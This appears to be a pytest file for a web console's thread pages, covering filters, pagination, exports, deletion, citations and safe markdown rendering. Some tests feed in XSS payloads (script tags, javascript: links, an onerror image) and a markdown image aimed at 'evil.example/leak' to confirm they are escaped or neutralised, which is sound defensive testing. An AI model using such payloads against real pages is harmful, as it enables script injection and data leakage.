"""Thread pages: list with metadata filters, the inspector, exports and delete."""

from __future__ import annotations

import json

from console.web.models import AuditLog
from tests.web.conftest import client_for, htmx


def _url(owner, suffix=""):
    return f"/p/{owner.project.pk}/threads{suffix}"


def test_it_filters_threads_by_metadata(people, owner, api):
    a = api.post("threads", json={"metadata": {"customer": "acme"}}).json()
    b = api.post("threads", json={"metadata": {"customer": "globex"}}).json()
    client = client_for(people.viewer)
    full = client.get(_url(owner)).content.decode()
    assert a["id"] in full and b["id"] in full
    partial = htmx(client, "get", _url(owner), {"mk": "customer", "mv": "acme"}).content.decode()
    assert a["id"] in partial and b["id"] not in partial and "<html" not in partial
    assert (
        "No thread matches these filters"
        in htmx(client, "get", _url(owner), {"mk": "customer", "mv": "x"}).content.decode()
    )


def test_it_searches_threads_by_text_assistant_and_dates(people, owner, api):
    from datetime import UTC, datetime

    from console.runs.models import Run
    from console.threads.models import Thread

    assistant = api.post("assistants", json={"model": "gpt-4o", "name": "Refund bot"}).json()
    refund = api.post("threads", json={"messages": [{"role": "user", "content": "I need a Refund"}]}).json()
    other = api.post("threads", json={"messages": [{"role": "user", "content": "hello"}]}).json()
    Run.objects.create(
        project=owner.project,
        thread_id=other["id"],
        assistant_id=assistant["id"],
        model="gpt-4o",
        status="completed",
    )
    Thread.objects.filter(pk=refund["id"]).update(created_at=datetime(2026, 1, 10, 8, tzinfo=UTC))
    client = client_for(people.viewer)
    full = client.get(_url(owner)).content.decode()
    assert "Refund bot" in full and 'name="q"' in full and 'type="date"' in full
    by_text = htmx(client, "get", _url(owner), {"q": "refund"}).content.decode()
    assert refund["id"] in by_text and other["id"] not in by_text and "<html" not in by_text
    by_assistant = htmx(client, "get", _url(owner), {"assistant": assistant["id"]}).content.decode()
    assert other["id"] in by_assistant and refund["id"] not in by_assistant
    by_day = htmx(client, "get", _url(owner), {"from": "2026-01-10", "to": "2026-01-10"}).content.decode()
    assert refund["id"] in by_day and other["id"] not in by_day
    before = htmx(client, "get", _url(owner), {"to": "2026-01-09"}).content.decode()
    assert refund["id"] not in before and "No thread matches these filters" in before


def test_it_keeps_the_filters_when_loading_more(people, owner, api):
    ids = [
        api.post("threads", json={"messages": [{"role": "user", "content": f"topic alpha {i}"}]}).json()["id"]
        for i in range(52)
    ]
    noise = api.post("threads", json={"messages": [{"role": "user", "content": "beta"}]}).json()["id"]
    client = client_for(people.viewer)
    first = htmx(client, "get", _url(owner), {"q": "alpha"}).content.decode()
    assert "Load more" in first and noise not in first
    assert "?q=alpha&after=" in first
    last_shown = ids[::-1][49]
    rest = htmx(client, "get", _url(owner), {"q": "alpha", "after": last_shown}).content.decode()
    assert ids[1] in rest and ids[0] in rest and noise not in rest and "Load more" not in rest


def test_it_renders_markdown_safely(people, owner, api):
    text = "# Title\n\n**bold** <script>alert(1)</script> [x](javascript:alert(1))"
    thread = api.post("threads", json={"messages": [{"role": "user", "content": text}]}).json()
    body = client_for(people.viewer).get(_url(owner, f"/{thread['id']}")).content.decode()
    assert "<h1>Title</h1>" in body and "<strong>bold</strong>" in body
    assert "<script>alert" not in body and 'href="javascript:' not in body


def test_it_pages_messages_so_long_threads_start_fast(people, owner, api):
    thread = api.post(
        "threads", json={"messages": [{"role": "user", "content": f"m{i:03d}"} for i in range(32)]}
    ).json()
    client = client_for(people.viewer)
    first = client.get(_url(owner, f"/{thread['id']}")).content.decode()
    assert "m000" in first and "m029" in first and "m030" not in first and "Load more messages" in first
    messages = api.get(f"threads/{thread['id']}/messages", params={"order": "asc", "limit": 30}).json()
    rest = htmx(
        client, "get", _url(owner, f"/{thread['id']}"), {"after": messages["last_id"]}
    ).content.decode()
    assert "m030" in rest and "m031" in rest and "<html" not in rest and "Load more" not in rest


def test_it_shows_runs_with_tool_calls_and_usage(people, owner, api, provider):
    from tests.fakeprovider import Call, Text, ToolCalls
    from tests.runs.helpers import wait_for_status

    provider.script(
        ToolCalls([Call("lookup", '{"q": "tea"}')], usage=(11, 3)), Text("Tea is ready.", usage=(20, 4))
    )
    tool = {
        "type": "function",
        "function": {"name": "lookup", "parameters": {"type": "object", "properties": {}}},
    }
    assistant = api.post("assistants", json={"model": "gpt-4o", "tools": [tool]}).json()
    thread = api.post("threads", json={"messages": [{"role": "user", "content": "tea?"}]}).json()
    run = api.post(f"threads/{thread['id']}/runs", json={"assistant_id": assistant["id"]}).json()
    run = wait_for_status(api, thread["id"], run["id"], {"requires_action"})
    call = run["required_action"]["submit_tool_outputs"]["tool_calls"][0]
    api.post(
        f"threads/{thread['id']}/runs/{run['id']}/submit_tool_outputs",
        json={"tool_outputs": [{"tool_call_id": call["id"], "output": "42 cups"}]},
    )
    wait_for_status(api, thread["id"], run["id"], {"completed"})
    client = client_for(people.viewer)
    body = htmx(client, "get", _url(owner, f"/{thread['id']}/runs")).content.decode()
    assert "<html" not in body and run["id"] in body and "completed" in body
    assert "lookup" in body and "&quot;q&quot;: &quot;tea&quot;" in body and "42 cups" in body
    assert "31 in" in body or "total" in body


def test_it_exports_json_and_markdown(people, owner, api):
    thread = api.post(
        "threads", json={"messages": [{"role": "user", "content": "Export me"}], "metadata": {"k": "v"}}
    ).json()
    client = client_for(people.viewer)
    as_json = client.get(_url(owner, f"/{thread['id']}/export.json"))
    assert as_json["Content-Disposition"].startswith("attachment")
    data = json.loads(as_json.content)
    assert (
        data["thread"]["id"] == thread["id"]
        and data["messages"][0]["content"][0]["text"]["value"] == "Export me"
    )
    as_md = client.get(_url(owner, f"/{thread['id']}/export.md")).content.decode()
    assert (
        f"# Thread {thread['id']}" in as_md
        and "## user" in as_md
        and "Export me" in as_md
        and "**k**: v" in as_md
    )


def test_it_lets_only_admins_delete_threads(people, owner, api):
    thread = api.post("threads", json={}).json()
    url = _url(owner, f"/{thread['id']}/delete")
    assert client_for(people.editor).post(url).status_code == 403
    assert client_for(people.admin).post(url).status_code == 302
    assert api.get(f"threads/{thread['id']}").status_code == 404
    assert AuditLog.objects.filter(action="thread.delete", object_id=thread["id"]).exists()


def _cited_message(thread_id: str, file_id: str, quote: str | None = "Refunds take 5 days."):  # type: ignore[no-untyped-def]
    from console.threads.models import Message

    citation = {"file_id": file_id}
    if quote is not None:
        citation["quote"] = quote
    text = "Refunds are quick【4:0†policy.txt】 and free."
    return Message.objects.create(
        thread_id=thread_id,
        role="assistant",
        assistant_id="asst_x",
        content=[
            {
                "type": "text",
                "text": {
                    "value": text,
                    "annotations": [
                        {
                            "type": "file_citation",
                            "text": "【4:0†policy.txt】",
                            "start_index": 18,
                            "end_index": 34,
                            "file_citation": citation,
                        }
                    ],
                },
            }
        ],
    )


def test_it_resolves_file_citations_to_the_file_name_and_quote(people, owner, api):
    file_id = api.post(
        "files",
        files={"file": ("refund-policy.txt", b"Refunds take 5 days.")},
        data={"purpose": "assistants"},
    ).json()["id"]
    thread = api.post(
        "threads", json={"messages": [{"role": "user", "content": "How fast are refunds?"}]}
    ).json()
    _cited_message(thread["id"], file_id)
    body = client_for(people.viewer).get(_url(owner, f"/{thread['id']}")).content.decode()
    assert 'class="citations"' in body
    assert f'href="/p/{owner.project.pk}/files/{file_id}/download">refund-policy.txt</a>' in body
    assert "<q>Refunds take 5 days.</q>" in body
    # The marker in the text becomes a footnote number, not the raw 【…】 token.
    assert "【4:0†policy.txt】" not in body and "Refunds are quick [1] and free." in body


def test_it_marks_citations_of_deleted_files_and_citations_without_quotes(people, owner, api):
    thread = api.post("threads").json()
    _cited_message(thread["id"], "file-gone", quote=None)
    body = client_for(people.viewer).get(_url(owner, f"/{thread['id']}")).content.decode()
    assert "file-gone (deleted)" in body and "<q>" not in body


def test_it_escapes_quoted_text(people, owner, api):
    file_id = api.post("files", files={"file": ("a.txt", b"a")}, data={"purpose": "assistants"}).json()["id"]
    thread = api.post("threads").json()
    _cited_message(thread["id"], file_id, quote="<img src=x onerror=alert(1)>")
    body = client_for(people.viewer).get(_url(owner, f"/{thread['id']}")).content.decode()
    assert "<img src=x" not in body and "&lt;img src=x onerror=alert(1)&gt;" in body


def test_it_shows_remote_markdown_images_as_links_and_stored_images_inline(people, owner, api):
    file_id = api.post(
        "files", files={"file": ("chart.png", b"\x89PNG\r\n")}, data={"purpose": "vision"}
    ).json()["id"]
    content = [
        {"type": "text", "text": "See ![the secret](https://evil.example/leak?d=42)"},
        {"type": "image_file", "image_file": {"file_id": file_id}},
    ]
    thread = api.post("threads", json={"messages": [{"role": "user", "content": content}]}).json()
    response = client_for(people.viewer).get(_url(owner, f"/{thread['id']}"))
    body = response.content.decode()
    assert '<img src="https://evil.example' not in body and "evil.example" in body
    assert (
        '<a href="https://evil.example/leak?d=42" class="remote-image"' in body
        and "Image: the secret" in body
    )
    assert f'src="/p/{owner.project.pk}/files/{file_id}/download?inline=1"' in body
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "img-src 'self' data:" in csp and "unsafe-inline" not in csp
